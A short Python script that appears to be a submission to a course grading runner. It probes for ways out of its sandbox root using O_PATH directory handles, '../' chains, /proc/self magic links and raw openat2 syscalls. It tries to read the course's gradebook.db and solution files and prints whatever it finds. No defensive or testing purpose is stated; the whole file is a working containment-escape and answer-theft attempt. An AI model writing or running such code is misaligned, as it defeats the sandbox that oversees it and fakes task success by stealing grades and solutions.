# read: directory handles, O_PATH, openat2 and magic links that might lead out of the root
# place: last
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
root = "{root}"  # the runner puts the course's own folder here
below = root.lstrip("/")
ways = [
    "..",
    "../..",
    f"../../../../..{root}",
    below,
    f"{'../' * 20}{below}/gradebook.db",
    f"{below}/solutions/tiny.py",
]
for base in ("/", ".", "/proc/self/cwd", "/proc/self/exe", "/dev", "/usr", "/proc/self/ns", "/proc/self/task"):
    try:
        handle = os.open(base, os.O_PATH)
    except OSError:
        continue
    for way in ways:
        try:
            inner = os.open(way, os.O_RDONLY, dir_fd=handle)
            found = os.listdir(inner) if os.path.isdir(f"/proc/self/fd/{inner}") else os.read(inner, 10_000)
            print(base, way, os.readlink(f"/proc/self/fd/{inner}"), found)
        except OSError:
            pass
        inner = libc.syscall(437, handle, way.encode(), (ctypes.c_uint64 * 3)(0, 0, 0), 24)  # openat2
        if inner >= 0:
            print("openat2", base, way, os.readlink(f"/proc/self/fd/{inner}"))
